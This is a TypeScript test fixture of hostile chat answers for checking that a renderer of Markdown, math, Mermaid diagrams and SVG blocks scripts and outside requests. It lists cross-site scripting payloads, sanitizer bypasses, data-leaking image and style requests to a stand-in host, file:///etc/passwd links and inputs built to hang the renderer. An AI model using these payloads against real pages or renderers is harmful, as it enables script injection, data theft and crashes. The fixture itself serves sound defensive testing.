/**
 * Answers that want to run something in the page, to fetch something, or to bring it to a stop. Each tries it on its own; `at` is
 * an address that must not be asked. What runs tells by `ran()`, or by a dialog.
 */
export interface Hostile {
  name: string;
  answer: string;
}

const named = (answers: Readonly<Record<string, string>>): Hostile[] => Object.entries(answers).map(([name, answer]) => ({ name, answer }));

/** Markup, as text of an answer. */
export const markup = (at: string): Hostile[] =>
  named({
    script: `<script>ran()</script><script src="${at}/script.js"></script>`,
    "image with a handler": `<img src=x onerror=ran()> and <img src="${at}/pixel.png">`,
    "drawing with a handler": `<svg onload=ran()><image href="${at}/svg.png"/><script>ran()</script></svg>`,
    "formula that becomes markup": "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=ran()>\">",
    "namespace that changes": "<svg><p><style><g title=\"</style><img src=x onerror=ran()>\">",
    "frame with a page": `<iframe srcdoc="<script>parent.ran()</script>"></iframe><iframe src="${at}/frame"></iframe>`,
    "frame with a script": "<iframe src=\"javascript:parent.ran()\"></iframe>",
    objects: `<object data="${at}/object"></object><embed src="${at}/embed"><applet code=x></applet>`,
    "style with an import": `<style>@import "${at}/style.css"; body { background: url(${at}/background.png); display: none }</style>`,
    "link to a style": `<link rel="stylesheet" href="${at}/link.css"><link rel="preload" as="image" href="${at}/preload.png">`,
    base: `<base href="${at}/">`,
    refresh: `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    form: `<form action="${at}/form"><button formaction="javascript:ran()" autofocus onfocus=ran()>send</button><input autofocus onfocus=ran()></form>`,
    "media with handlers": `<video src="${at}/clip.mp4" poster="${at}/poster.png" onerror=ran() autoplay></video><audio src="${at}/sound.mp3" onloadstart=ran()></audio>`,
    "fold with a handler": "<details open ontoggle=ran()>open</details><marquee onstart=ran()>move</marquee>",
    "style attribute": `<b style="background: url(${at}/attribute.png); position: fixed; inset: 0">over all</b>`,
    template: "<noscript><p title=\"</noscript><img src=x onerror=ran()>\"></noscript><template><script>ran()</script></template>",
    body: "<body onload=ran()><html onmouseover=ran()>",
    "markup in a picture's words": `![<img src=x onerror=ran()>](${at}/alt.png)`,
    "markup in code": "```<img/src=x/onerror=ran()>\n<script>ran()</script>\n```",
    "markup in a table": `| a | b |\n| --- | --- |\n| <img src=x onerror=ran()> | ![x](${at}/cell.png) |`,
  });

/** Links and pictures in Markdown. */
export const links = (at: string): Hostile[] =>
  named({
    "script link": "[press](javascript:ran())",
    "script link in other letters": "[press](JaVaScRiPt:ran()) [press](java&#115;cript:ran()) [press](java\tscript:ran()) [press](%6aavascript:ran())",
    "script link in brackets": "<javascript:ran()> <vbscript:ran()>",
    "script link by reference": "[press][1] ![look][1]\n\n[1]: javascript:ran() \"x\" onclick=ran()",
    "Visual Basic link": "[press](vbscript:ran())",
    "data link": "[press](data:text/html,<script>opener.ran()</script>) [press](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuKCk8L3NjcmlwdD4=)",
    "file and blob links": "[press](file:///etc/passwd) [press](blob:null/1) [press](filesystem:x) [press](about:blank)",
    "link without a scheme": `[press](//${new URL(at).host}/host) [press](/api/config) [press](../api/config) [press](?x#y)`,
    "title that leaves its quotes": "[press](https://example.com/ \"\\\" onmouseover=\\\"ran()\")",
    "remote picture": `![](${at}/?d=secret)`,
    "remote picture by reference": `![look][2]\n\n[2]: ${at}/reference.png`,
    "remote picture in a link": `[![look](${at}/linked.png)](${at}/link)`,
    "picture with a script": "![look](data:image/svg+xml,<svg/onload=ran()>) ![look](javascript:ran())",
    "picture in a footnote": `note[^1]\n\n[^1]: ![look](${at}/footnote.png)`,
  });

/** Formulas that run on, grow, link or are no formulas. */
export const formulas = (at: string): Hostile[] =>
  named({
    "endless definition": "$$\\edef\\a{\\a\\a}\\a$$ and $$\\def\\x{\\x\\x}\\x$$",
    "definition that grows": `$$\\def\\a{1}${["b", "c", "d", "e", "f", "g", "h", "i", "j"].map((name, index) => `\\def\\${name}{${`\\${"abcdefghij"[index] ?? "a"}`.repeat(10)}}`).join("")}\\j$$`,
    "script in a formula": `$$\\href{javascript:ran()}{x} \\url{javascript:ran()} \\includegraphics{${at}/formula.png}$$`,
    "markup in a formula": `$$\\htmlStyle{background:url(${at}/htmlStyle.png)}{x} \\htmlData{x=1}{y} \\text{<img src=x onerror=ran()>}$$`,
    "enormous rule": "$$\\rule{99999999em}{99999999em} \\kern{-9999999em} x$$",
    "deep braces": `$$${"{".repeat(3000)}x${"}".repeat(3000)}$$`,
    "deep fraction": `$$${"\\frac{1}{".repeat(400)}x${"}".repeat(400)}$$`,
    "formula that fails": "$$\\frac{<img src=x onerror=ran()>}$$ and $$\\unknown{\"'><script>ran()</script>}$$",
  });

/** What goes into results: labels, keys, actions, tables and times. */
export const results = (at: string): Hostile[] =>
  named({
    "markup as a label": '```json\n[{"bbox_2d": [100, 100, 500, 500], "label": "<img src=x onerror=ran()>"}, {"point_2d": [5, 5], "label": "</text><script>ran()</script>"}]\n```',
    "keys of objects": '```json\n[{"bbox_2d": [1, 2, 300, 400], "__proto__": {"ran": 1}, "constructor": "x", "label": "toString"}]\n```',
    "numbers beyond all bounds": '```json\n[{"bbox_2d": [-1e308, 1e308, 1e999, -0], "label": "a"}, {"bbox_2d": [null, {}, [], "x"], "label": "b"}]\n```',
    "action with markup": '<tool_call>\n{"name": "mobile_use", "arguments": {"action": "type", "text": "<img src=x onerror=ran()>"}}\n</tool_call>',
    "facts with markup": '```json\n{"shop": "<script>ran()</script>", "total": "=HYPERLINK(\\"' + at + '\\")", "items": [{"name": "<svg onload=ran()>", "price": "javascript:ran()"}]}\n```',
    "page with handlers": `\`\`\`html\n<html><body><h1 data-bbox="10 10 900 100" onclick="parent.ran()">Title</h1><p data-bbox="10 200 900 400"><img src="${at}/page.png" onerror="parent.ran()"><a href="javascript:parent.ran()">x</a></p><style>@import "${at}/page.css"</style></body></html>\n\`\`\``,
  });

/** What nests, runs on or never ends. */
export const shapes = (): Hostile[] =>
  named({
    "deep quote": `${">".repeat(3000)} deep`,
    "deep list": Array.from({ length: 150 }, (_, depth) => `${"  ".repeat(depth)}- deep`).join("\n"),
    "deep emphasis": `${"*a _b ".repeat(500)}c${" b_ a*".repeat(500)}`,
    "brackets without end": "[".repeat(8000),
    "emphasis without end": "*a**b_c__".repeat(1500),
    "lists within JSON": `\`\`\`json\n${"[".repeat(20_000)}\n\`\`\``,
    "long table": `| a | b |\n| --- | --- |\n${"| 1 | 2 |\n".repeat(10_000)}`,
    "half-open markup": "<img src=x onerror=\"ran()\" **bold [link](http:// `code <script>ran()",
  });

/** Diagrams, which are drawn when they are looked at. */
export const diagrams = (at: string): Hostile[] =>
  named({
    "diagram that is pressed": "```mermaid\ngraph TD\n  A[Press] --> B[Call]\n  click A \"javascript:ran()\"\n  click B call ran()\n```",
    "diagram with markup": `\`\`\`mermaid\ngraph TD\n  A["<img src='${at}/label.png' onerror='ran()'>"] --> B["<script>ran()</script>"]\n\`\`\``,
    "diagram that loosens itself": `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${at}/theme.css); * { background: url(${at}/theme.png) }", "htmlLabels": true}}%%\ngraph TD\n  A["<img src=x onerror=ran()>"] --> B\n  style B fill:red\n\`\`\``,
    "diagram with pictures": `\`\`\`mermaid\ngraph TD\n  A@{ img: "${at}/node.png", label: "look", w: 60, h: 60 }\n\`\`\``,
    "drawing with scripts": `\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" onload="parent.ran()"><script>parent.ran()</script><image href="${at}/image.png"/><foreignObject><img src="${at}/foreign.png" onerror="parent.ran()"/></foreignObject><style>@import "${at}/svg.css"</style></svg>\n\`\`\``,
  });
